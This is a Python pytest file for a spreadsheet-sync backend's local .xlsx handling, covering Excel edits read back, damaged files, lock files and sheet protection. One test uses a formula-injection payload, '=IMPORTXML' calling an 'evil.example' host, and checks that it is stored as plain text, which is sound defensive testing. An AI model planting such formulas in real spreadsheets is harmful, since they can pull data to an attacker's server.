"""The local backend's .xlsx specifics: what Excel users type is read back, RAW writes, damaged and
lock files, sheet protection."""

from __future__ import annotations

import os
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sample_form import MP, OFFICE, SCHEDULE, TW1, provisioned_form
from xlsx_locks import PROGRAMS, Program, sheet_locks

from sheets_sync.backends.local import LocalBackend
from sheets_sync.core.a1 import cell
from sheets_sync.core.form import DONE_CELL, FIRST_ROW, INPUT_COLS, LAST_COL, build_setup, read_form, read_range
from sheets_sync.core.values import Protection, RangeWrite
from sheets_sync.errors import FormNotFound, FormUnreadable
from sheets_sync.model import Indicator

INDICATORS = tuple(
    Indicator(code, "MP", "Meningkatnya sistem merit", f"Indikator {code}", "%", "positif", "nilai_akhir",
              "kumulatif", "90", ("90", "90", "90", "90"))
    for code in ("2.1", "2.2", "3.3")
)


@pytest.fixture
def form(backend: LocalBackend) -> Path:
    """A provisioned TW1 form; returns its file path."""
    return provisioned_form(backend, INDICATORS, SCHEDULE)


def excel_types(path: Path, edits: dict[str, object]) -> None:
    """A person opens the file in Excel, types into cells and saves."""
    wb = load_workbook(path)
    ws = wb["TW1"]
    for a1, value in edits.items():
        ws[a1] = value
    wb.save(path)


def test_the_form_file_is_named_after_its_title_and_lives_in_the_folder(backend: LocalBackend, form: Path) -> None:
    assert form.parent == backend.folder.resolve()
    assert form.suffix == ".xlsx"
    assert backend.list_tabs(form.name) == ["TW1"]


def test_values_typed_in_excel_are_read_back(backend: LocalBackend, form: Path) -> None:
    excel_types(form, {f"H{FIRST_ROW}": 81.5, f"K{FIRST_ROW}": "kendala anggaran", f"H{FIRST_ROW + 1}": "72,50",
                       DONE_CELL: "Selesai"})
    values = backend.read(form.name, [read_range(TW1)])[read_range(TW1)]
    result = read_form(values, MP, INDICATORS, TW1, form_id=form.name, link=str(form),
                       read_at=datetime.now(UTC))
    assert result.ok and result.findings == ()
    first, second = result.row("2.1"), result.row("2.2")
    assert first is not None and second is not None
    assert first.cells["realisasi"] == 81.5
    assert first.cells["keterangan"] == "kendala anggaran"
    assert second.cells["realisasi"] == "72,50"
    assert result.done


def test_an_empty_cell_reads_as_none_not_an_empty_string(backend: LocalBackend, form: Path) -> None:
    link = "https://drive.example/bukti-2.1.pdf"
    excel_types(form, {f"H{FIRST_ROW}": "", f"L{FIRST_ROW}": link})
    inputs, empty = f"TW1!H{FIRST_ROW}:L{FIRST_ROW}", f"TW1!H{FIRST_ROW}:K{FIRST_ROW}"
    got = backend.read(form.name, [inputs, empty])
    assert got[inputs] == [[None, None, None, None, link]]
    assert got[empty] == []  # the contract (backends/base.py): a trailing empty row is dropped, not padded


def test_text_starting_with_equals_is_stored_as_text_not_a_formula(backend: LocalBackend, form: Path) -> None:
    formula = '=IMPORTXML("https://evil.example","//a")'
    backend.write(form.name, [RangeWrite(f"TW1!K{FIRST_ROW}", [[formula]])])
    ws = load_workbook(form)["TW1"]
    assert ws[f"K{FIRST_ROW}"].data_type == "s"
    assert ws[f"K{FIRST_ROW}"].value == formula
    key = f"TW1!K{FIRST_ROW}"
    assert backend.read(form.name, [key])[key] == [[formula]]


def test_a_truncated_file_is_form_unreadable(backend: LocalBackend, form: Path) -> None:
    data = form.read_bytes()
    form.write_bytes(data[: len(data) // 2])
    with pytest.raises(FormUnreadable) as info:
        backend.read(form.name, [read_range(TW1)])
    assert form.name in str(info.value)
    with pytest.raises(FormUnreadable):
        backend.list_tabs(form.name)


def test_a_file_that_is_not_a_workbook_is_form_unreadable(backend: LocalBackend) -> None:
    backend.folder.mkdir(parents=True, exist_ok=True)
    (backend.folder / "catatan.xlsx").write_text("bukan excel", encoding="utf-8")
    with pytest.raises(FormUnreadable):
        backend.read("catatan.xlsx", ["TW1!A1:B2"])


def test_a_missing_file_is_form_not_found(backend: LocalBackend) -> None:
    with pytest.raises(FormNotFound):
        backend.read("tidak-ada.xlsx", ["TW1!A1"])


def test_office_lock_files_are_not_reported_as_changed_forms(backend: LocalBackend, form: Path) -> None:
    (backend.folder / f"~${form.name}").write_bytes(b"owner")
    (backend.folder / f".~lock.{form.name}#").write_bytes(b"owner")
    (backend.folder / ".~lock.x.xlsx").write_bytes(b"owner")
    changes = backend.changed_since(None)
    assert [c.form_id for c in changes] == [form.name]


def test_changed_since_reports_only_files_modified_after_the_mark(backend: LocalBackend, form: Path) -> None:
    past = datetime.now(UTC) - timedelta(days=1)
    os.utime(form, (past.timestamp(), past.timestamp()))
    assert [c.form_id for c in backend.changed_since(past - timedelta(seconds=1))] == [form.name]
    assert backend.changed_since(past + timedelta(hours=1)) == []


def input_cells(rows: int) -> set[str]:
    """The cells a bidang types into: C3 and the input columns of the ``rows`` indicator rows."""
    return {DONE_CELL} | {cell(r, c) for r in range(FIRST_ROW, FIRST_ROW + rows) for c in INPUT_COLS.values()}


def editable(path: Path, program: Program) -> list[str]:
    """The cells of the used range of TW1 that ``program`` lets a person type into (as it reads the
    file: cell style, row style with ``customFormat``, column style); every cell when the sheet is not
    protected."""
    locks = sheet_locks(path, "TW1")
    return [cell(r, c) for r in range(1, locks.used_rows + 1) for c in range(1, locks.used_cols + 1)
            if not locks.protected or not locks.locked(r, c, program)]


@pytest.mark.parametrize("program", PROGRAMS)
def test_only_the_input_cells_of_the_used_range_are_editable(form: Path, program: Program) -> None:
    locks = sheet_locks(form, "TW1")
    assert locks.protected
    assert (locks.used_rows, locks.used_cols) == (FIRST_ROW + len(INDICATORS) - 1, LAST_COL)
    assert sorted(editable(form, program)) == sorted(input_cells(len(INDICATORS)))


@pytest.mark.parametrize("program", PROGRAMS)
def test_rows_people_add_below_the_data_stay_editable(form: Path, program: Program) -> None:
    locks = sheet_locks(form, "TW1")
    assert not any(locks.locked_at(a1, program) for a1 in ("A250", "H250", "K5000", "P300"))


@pytest.mark.parametrize("program", PROGRAMS)
def test_after_people_typed_and_setup_ran_again_only_the_input_cells_are_editable(
        backend: LocalBackend, form: Path, program: Program) -> None:
    excel_types(form, {f"H{FIRST_ROW}": 95, f"K{FIRST_ROW + 1}": "kendala", DONE_CELL: "Selesai"})
    existing = backend.read(form.name, [read_range(TW1)])[read_range(TW1)]
    backend.setup(form.name, build_setup(MP, INDICATORS, TW1, OFFICE, SCHEDULE, existing))
    assert sorted(editable(form, program)) == sorted(input_cells(len(INDICATORS)))


@pytest.mark.parametrize("program", PROGRAMS)
def test_a_locked_tab_has_no_editable_cell_and_unlocking_opens_exactly_the_inputs_again(
        backend: LocalBackend, form: Path, program: Program) -> None:
    setup = build_setup(MP, INDICATORS, TW1, OFFICE, SCHEDULE, None)
    backend.setup(form.name, replace(setup, writes=(), protections=(Protection("TW1", "sheets-sync: terkunci"),)))
    assert editable(form, program) == []
    assert sheet_locks(form, "TW1").locked_at("H250", program)
    backend.setup(form.name, replace(setup, writes=()))
    assert sorted(editable(form, program)) == sorted(input_cells(len(INDICATORS)))


def test_protection_stores_no_empty_cell_but_the_inputs_of_the_indicator_rows(form: Path) -> None:
    """Empty locked cells take their row's style and rows people add their column's: the only empty
    cells in the file are the input cells of the indicator rows, and nothing is stored below them."""
    ws = load_workbook(form)["TW1"]
    assert ws.max_row == FIRST_ROW + len(INDICATORS) - 1
    empty = {c.coordinate for row in ws.iter_rows() for c in row if c.value is None and c.has_style}
    assert empty == input_cells(len(INDICATORS)) - {DONE_CELL}


def test_a_form_provisioned_by_an_earlier_version_loses_its_style_only_rows(backend: LocalBackend,
                                                                           form: Path) -> None:
    from openpyxl.styles import Protection as CellProtection

    wb = load_workbook(form)
    for r in range(FIRST_ROW, 220):
        for c in range(1, 17):
            wb["TW1"].cell(r, c).protection = CellProtection(locked=c not in (8, 9, 10, 11, 12))
    wb.save(form)
    existing = backend.read(form.name, [read_range(TW1)])[read_range(TW1)]
    backend.setup(form.name, build_setup(MP, INDICATORS, TW1, OFFICE, SCHEDULE, existing))
    assert load_workbook(form)["TW1"].max_row == FIRST_ROW + len(INDICATORS) - 1


def test_setup_adds_validations_on_the_input_cells(form: Path) -> None:
    ws = load_workbook(form)["TW1"]
    sqrefs = {str(dv.sqref): dv.type for dv in ws.data_validations.dataValidation}
    assert sqrefs.get(DONE_CELL) == "list"
    assert any(kind == "decimal" and ref.startswith(f"H{FIRST_ROW}") for ref, kind in sqrefs.items())


def test_setup_again_keeps_what_people_typed(backend: LocalBackend, form: Path) -> None:
    excel_types(form, {f"H{FIRST_ROW}": 95, DONE_CELL: "Selesai"})
    existing = backend.read(form.name, [read_range(TW1)])[read_range(TW1)]
    backend.setup(form.name, build_setup(MP, INDICATORS, TW1, OFFICE, SCHEDULE, existing))
    ws = load_workbook(form)["TW1"]
    assert ws[f"H{FIRST_ROW}"].value == 95
    assert ws[DONE_CELL].value == "Selesai"
    assert backend.read_marker(form.name, "TW1") == {"form": "1", "unit": "MP", "period": "2025-TW1"}


def test_writing_identical_values_does_not_touch_the_file(backend: LocalBackend, form: Path) -> None:
    writes = [RangeWrite(f"TW1!K{FIRST_ROW}", [["sama"]])]
    backend.write(form.name, writes)
    past = datetime.now(UTC) - timedelta(days=1)
    os.utime(form, (past.timestamp(), past.timestamp()))
    backend.write(form.name, writes)
    assert abs(form.stat().st_mtime - past.timestamp()) < 1
